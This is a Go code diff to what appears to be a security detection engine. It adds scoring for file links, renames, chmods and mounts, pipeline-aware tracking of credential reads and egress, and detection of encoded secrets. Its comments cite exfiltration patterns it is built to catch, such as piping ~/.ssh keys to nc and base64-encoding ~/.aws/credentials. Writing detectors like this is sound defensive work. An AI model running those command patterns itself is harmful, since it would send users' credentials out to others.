@@ -119,6 +119,9 @@ func (e *Engine) Score(ev *Event) Result {
 	case KindExit:
 		if ev.HasPID {
 			delete(s.procs, ev.PID)
+			if s.pidFlow != nil {
+				delete(s.pidFlow, ev.PID) // its pipes stay: a reader may exec after it ended
+			}
 		}
 	}
 	homes, cwd := e.context(s, ev)
@@ -135,6 +138,8 @@ func (e *Engine) Score(ev *Event) Result {
 		e.scoreDNS(s, ev, t, &rs)
 	case KindEnforce:
 		e.scoreEnforce(s, ev, homes, cwd, &rs)
+	case KindFileLink, KindFileRename, KindFileUnlink, KindFileChmod, KindFileMount:
+		e.scoreChange(s, ev, t, homes, cwd, &rs)
 	case KindLLMRequest:
 		if ev.SecretCount > 0 {
 			rs.Add(policy.RuleLLMSecretToModel)
@@ -206,9 +211,14 @@ func (e *Engine) result(rs *policy.RuleSet) Result {
 }
 
 func (e *Engine) scoreExec(s *session, ev *Event, t int64, homes policy.Homes, cwd string, rs *policy.RuleSet) {
-	f := e.pol.MatchExec(&policy.Exec{Exe: ev.Exe, Args: ev.Args, Cwd: cwd, Homes: homes}, rs)
+	f := e.pol.MatchExec(&policy.Exec{Exe: ev.Exe, Args: ev.Args, Cwd: cwd, Homes: homes, Program: ev.Program, Fileless: ev.Fileless}, rs)
 	if e.chainStep(s, t, false, f.Stage, f.Egress) {
 		rs.Add(policy.RuleChainExfiltration)
+	}
+	if f.Encodes {
+		if _, encode := e.procStep(s, ev, t, stepEncode); encode {
+			rs.Add(policy.RuleFlowEncodeSensitive)
+		}
 	}
 	fresh := false
 	for _, target := range f.ChmodTargets {
@@ -217,7 +227,8 @@ func (e *Engine) scoreExec(s *session, ev *Event, t int64, homes policy.Homes, c
 		}
 		s.chmods.add(target, t)
 	}
-	if exe := pathglob.Clean(ev.Exe); exe != "" && s.downloads.hasAtOrBefore(exe, t) {
+	// The program a loader runs, or the image without " (deleted)".
+	if exe := pathglob.Clean(policy.ExecPath(ev.Exe, ev.Program)); exe != "" && s.downloads.hasAtOrBefore(exe, t) {
 		fresh = true
 	}
 	if fresh {
@@ -232,22 +243,146 @@ func (e *Engine) scoreOpen(s *session, ev *Event, t int64, homes policy.Homes, c
 		// /proc/self/fd is reported with the real file and scored then.
 		return
 	}
+	// The file under the name it was opened by and under the one the
+	// receiver knows its inode by (a hard link, a bind mount, …).
+	canon := canonicalOf(ev, p, cwd)
 	sensitive := e.pol.MatchPath(p, homes, s.workdir, rs)
+	if canon != "" && e.pol.MatchPath(canon, homes, s.workdir, rs) {
+		sensitive = true
+	}
+	if e.pol.MatchProcSecrets(p, ev.PID, ev.HasPID, ev.ProcTargetPID, ev.HasProcTargetPID, rs) {
+		sensitive = true
+	}
 	succeeded := !ev.HasResult || ev.Result >= 0
 	if !succeeded {
 		return
 	}
-	if sensitive && opensForRead(ev.Flags) && (e.chainStep(s, t, true, false, false) || e.procChain(s, ev, t, true)) {
-		rs.Add(policy.RuleChainExfiltration)
+	if sensitive && opensForRead(ev.Flags) {
+		e.sensitiveRead(s, ev, t, rs)
 	}
-	if opensForWrite(ev.Flags) {
-		e.pol.MatchPersistence(p, homes, rs)
+	if !opensForWrite(ev.Flags) {
+		return
 	}
-	if opensForWrite(ev.Flags) && policy.IsTransferTool(ev.Exe) {
+	e.pol.MatchPersistence(p, homes, rs)
+	if canon != "" {
+		e.pol.MatchPersistence(canon, homes, rs)
+	}
+	if policy.IsTransferTool(ev.Exe) || e.loadedTransferTool(s, ev) {
 		s.downloads.add(p, t)
 		if s.chmods.hasAtOrAfter(p, t) {
 			rs.Add(policy.RuleChainDownloadExec)
 		}
+	}
+	if strings.Contains(ev.Flags, "O_CREAT") {
+		s.created.add(p, t)
+		if s.chmods.hasAtOrAfter(p, t) {
+			rs.Add(policy.RuleFileChmodExec) // the chmod arrived first
+		}
+	}
+}
+
+// loadedTransferTool reports whether the event's process is a loader that
+// runs a transfer tool (its opens name the loader as the executable).
+func (e *Engine) loadedTransferTool(s *session, ev *Event) bool {
+	if !ev.HasPID {
+		return false
+	}
+	pi, ok := s.procs[ev.PID]
+	return ok && pi.transfer
+}
+
+// canonicalOf returns the event's canonical path resolved, or "" when it
+// has none or it is p.
+func canonicalOf(ev *Event, p, cwd string) string {
+	if ev.CanonicalPath == "" {
+		return ""
+	}
+	if c := pathglob.Resolve(ev.CanonicalPath, cwd, ""); c != p {
+		return c
+	}
+	return ""
+}
+
+// sensitiveRead records a successful sensitive read as a chain step of the
+// session and of its process or flow, and adds the chains it completes.
+func (e *Engine) sensitiveRead(s *session, ev *Event, t int64, rs *policy.RuleSet) {
+	chain := e.chainStep(s, t, true, false, false)
+	inProc, encoded := e.procStep(s, ev, t, stepRead)
+	if chain || inProc {
+		rs.Add(policy.RuleChainExfiltration)
+	}
+	if encoded {
+		rs.Add(policy.RuleFlowEncodeSensitive)
+	}
+}
+
+// scoreChange scores a link, rename, unlink, chmod or mount. One that
+// failed (agent.file.result < 0) changed nothing and is not scored.
+func (e *Engine) scoreChange(s *session, ev *Event, t int64, homes policy.Homes, cwd string, rs *policy.RuleSet) {
+	if ev.HasResult && ev.Result < 0 {
+		return
+	}
+	src := pathglob.Resolve(ev.Path, cwd, "")
+	canon := canonicalOf(ev, src, cwd)
+	switch ev.Kind {
+	case KindFileLink, KindFileRename, KindFileMount:
+		dst := ev.NewPath
+		if ev.Kind == KindFileMount {
+			dst = ev.MountPoint
+		}
+		dst = pathglob.Resolve(dst, cwd, "")
+		// A link, a rename and a bind mount give the source another name;
+		// the source of any other mount is a device or a filesystem name.
+		if ev.Kind != KindFileMount || policy.IsBindMount(ev.MountFlags) {
+			sensitive := src != "" && e.pol.MatchPathTree(src, homes, s.workdir, rs)
+			if canon != "" && e.pol.MatchPathTree(canon, homes, s.workdir, rs) {
+				sensitive = true
+			}
+			if sensitive {
+				rs.Add(policy.RuleFileSensitiveAlias)
+			}
+			if ev.Kind != KindFileMount && dst != "" {
+				s.carryFresh(src, canon, dst, t)
+			}
+		}
+		// The name it gets: a credential replaced, a mount onto ~/.ssh, a
+		// script renamed into a persistence location.
+		if dst != "" {
+			e.pol.MatchPathTree(dst, homes, s.workdir, rs)
+			e.pol.MatchPersistenceTree(dst, homes, rs)
+		}
+	case KindFileUnlink, KindFileChmod:
+		if e.sensitiveOrPersistent(s, src, homes) || e.sensitiveOrPersistent(s, canon, homes) {
+			rs.Add(policy.RuleFileSensitiveChange)
+		}
+		if ev.Kind == KindFileChmod && ev.HasMode && policy.ModeAddsExec(ev.Mode) && src != "" {
+			e.chmodExec(s, src, canon, t, rs)
+		}
+	}
+}
+
+func (e *Engine) sensitiveOrPersistent(s *session, p string, homes policy.Homes) bool {
+	if p == "" {
+		return false
+	}
+	var scratch policy.RuleSet
+	return e.pol.MatchPath(p, homes, s.workdir, &scratch) || e.pol.IsPersistence(p, homes)
+}
+
+// chmodExec scores a chmod syscall that sets an execute bit: of a fresh
+// download it is chain.download_exec, of a file the session created
+// file.chmod_exec. Like a chmod command's targets it is remembered, so a
+// later run of the file (or a download write that arrives late) completes
+// chain.download_exec.
+func (e *Engine) chmodExec(s *session, src, canon string, t int64, rs *policy.RuleSet) {
+	downloaded := s.downloads.hasAtOrBefore(src, t) || canon != "" && s.downloads.hasAtOrBefore(canon, t)
+	created := s.created.hasAtOrBefore(src, t) || canon != "" && s.created.hasAtOrBefore(canon, t)
+	s.chmods.add(src, t)
+	if downloaded {
+		rs.Add(policy.RuleChainDownloadExec)
+	}
+	if created {
+		rs.Add(policy.RuleFileChmodExec)
 	}
 }
 
@@ -296,7 +431,8 @@ func (e *Engine) scoreConnect(s *session, ev *Event, t int64, rs *policy.RuleSet
 		if !resolved {
 			rs.Add(policy.RuleNetUnresolvedIP)
 		}
-		if e.chainStep(s, t, false, false, true) || e.procChain(s, ev, t, false) {
+		chain := e.chainStep(s, t, false, false, true)
+		if inProc, _ := e.procStep(s, ev, t, stepEgress); chain || inProc {
 			rs.Add(policy.RuleChainExfiltration)
 		}
 	}
@@ -343,8 +479,11 @@ func (e *Engine) scoreDNS(s *session, ev *Event, t int64, rs *policy.RuleSet) {
 		// a sandbox's own resolver is its system's.
 		resolver = netip.Addr{}
 	}
-	if e.pol.MatchDNS(name, resolver, rs) && (e.chainStep(s, t, false, false, true) || e.procChain(s, ev, t, false)) {
-		rs.Add(policy.RuleChainExfiltration)
+	if e.pol.MatchDNS(name, resolver, rs) {
+		chain := e.chainStep(s, t, false, false, true)
+		if inProc, _ := e.procStep(s, ev, t, stepEgress); chain || inProc {
+			rs.Add(policy.RuleChainExfiltration)
+		}
 	}
 }
 
@@ -370,6 +509,10 @@ func (e *Engine) scoreEnforce(s *session, ev *Event, homes policy.Homes, cwd str
 	if ev.Path != "" {
 		if p := pathglob.Resolve(ev.Path, cwd, ""); p != "" {
 			e.pol.MatchPath(p, homes, s.workdir, rs)
+			if c := canonicalOf(ev, p, cwd); c != "" {
+				e.pol.MatchPath(c, homes, s.workdir, rs)
+			}
+			e.pol.MatchProcSecrets(p, ev.PID, ev.HasPID, ev.ProcTargetPID, ev.HasProcTargetPID, rs)
 		}
 	}
 	if addr, err := netip.ParseAddr(ev.PeerAddr); err == nil {
@@ -377,33 +520,78 @@ func (e *Engine) scoreEnforce(s *session, ev *Event, homes policy.Homes, cwd str
 	}
 }
 
-// procChain records a sensitive read (read) or an egress (!read) of the
-// event's process and reports whether the same process did the other one
-// within the window, in either order: one process that reads a credential
-// and sends to a destination that is not allowed needs no staging step to
-// exfiltrate it (python urllib, bash /dev/tcp, sendfile into a socket,
-// git push of a key it added). Both orders, since a client may connect
-// before it reads what it sends.
-func (e *Engine) procChain(s *session, ev *Event, t int64, read bool) bool {
+// stepKind is what procStep records.
+type stepKind uint8
+
+const (
+	stepRead   stepKind = iota // a successful sensitive read
+	stepEgress                 // a send to a destination that is not allowed
+	stepEncode                 // an encoder or archiver run
+)
+
+// procStep records a step of the event's process — of its flow when it is
+// in a pipeline — and reports what it completes with the steps already
+// there, within the window and in either order:
+//
+//   - inProc: a sensitive read and an egress. One process that reads a
+//     credential and sends to a destination that is not allowed needs no
+//     staging step to exfiltrate it (python urllib, bash /dev/tcp, sendfile
+//     into a socket, git push of a key it added), nor does a pipeline
+//     (cat ~/.ssh/id | nc host port). Both orders, since a client may
+//     connect before it reads what it sends.
+//   - encoded: a sensitive read and an encoder run in one flow
+//     (cat ~/.aws/credentials | base64); the processes of a pipeline start
+//     in any order.
+func (e *Engine) procStep(s *session, ev *Event, t int64, k stepKind) (inProc, encoded bool) {
 	if !ev.HasPID {
-		return false
+		return false, false
 	}
-	ps, ok := s.procSteps[ev.PID]
-	if !ok && len(s.procSteps) >= maxProcs {
+	if f, ok := s.pidFlow[ev.PID]; ok {
+		fs, found := s.flowSteps[f]
+		if !found && len(s.flowSteps) >= maxProcs {
+			clear(s.flowSteps) // only the chains inside flows lose their memory
+		}
+		inProc, encoded = e.record(&fs.procSteps, &fs.encode, t, k)
+		s.flowSteps[f] = fs
+		return inProc, encoded
+	}
+	if k == stepEncode {
+		return false, false // an encoder outside a pipeline encodes what its argv says
+	}
+	ps, found := s.procSteps[ev.PID]
+	if !found && len(s.procSteps) >= maxProcs {
 		clear(s.procSteps) // only the chain inside one process loses its memory
 	}
-	other := ps.read
-	if read {
-		other, ps.read = ps.egress, max(ps.read, t)
-	} else {
-		ps.egress = max(ps.egress, t)
-	}
+	inProc, _ = e.record(&ps, nil, t, k)
 	s.procSteps[ev.PID] = ps
-	d := t - other
+	return inProc, false
+}
+
+// record adds step k at t to ps (and encode, for a flow) and reports the
+// pairs it completes.
+func (e *Engine) record(ps *procSteps, encode *int64, t int64, k stepKind) (inProc, encoded bool) {
+	switch k {
+	case stepRead:
+		inProc = e.near(ps.egress, t)
+		encoded = encode != nil && e.near(*encode, t)
+		ps.read = max(ps.read, t)
+	case stepEgress:
+		inProc = e.near(ps.read, t)
+		ps.egress = max(ps.egress, t)
+	case stepEncode:
+		encoded = e.near(ps.read, t)
+		*encode = max(*encode, t)
+	}
+	return inProc, encoded
+}
+
+// near reports whether a recorded step (0: none) lies within the window of t.
+func (e *Engine) near(step, t int64) bool {
+	d := t - step
 	if d < 0 {
 		d = -d
 	}
-	return other != 0 && d <= e.window
+	return step != 0 && d <= e.window
 }
 
 // chainStep records the steps one event is and reports whether it completes
